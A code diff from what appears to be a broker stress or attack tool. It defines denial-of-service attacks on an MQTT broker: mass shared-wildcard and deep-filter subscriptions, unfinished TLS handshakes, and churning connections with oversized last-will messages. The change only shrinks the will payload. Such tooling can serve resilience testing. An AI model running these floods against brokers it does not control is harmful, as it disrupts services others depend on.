@@ -95,7 +95,7 @@ async def handshakes(target: Target, done: Done) -> None:
 async def sessions(target: Target, done: Done) -> None:
     """Connect with a large will, subscribe and go away without a word, again and again."""
     context = tls(target)
-    will = mqtt5.Will(TOPIC, payload=payloads.garbage(50_000), user_properties=[("n" * 60_000, "v" * 60_000)] * 6)
+    will = mqtt5.Will(TOPIC, payload=payloads.garbage(50_000), user_properties=[("n" * 60_000, "v" * 60_000)])
     while True:
         try:
             async with device(target, context, session_expiry_s=3_600, reads=False, will=will) as one:
@@ -128,5 +128,5 @@ ATTACKS = (
     Attack("shared-wildcards", "broker", "200,000 shared subscriptions to all topics", shared_wildcards),
     Attack("deep-filters", "broker", "200,000 subscriptions of 150 levels", deep_filters),
     Attack("handshakes", "broker", "2,000 connections that do not finish TLS", handshakes),
-    Attack("sessions", "broker", "connections with a will of 800 kB that come and go", sessions),
+    Attack("sessions", "broker", "connections with a will of 170 kB that come and go", sessions),
 )
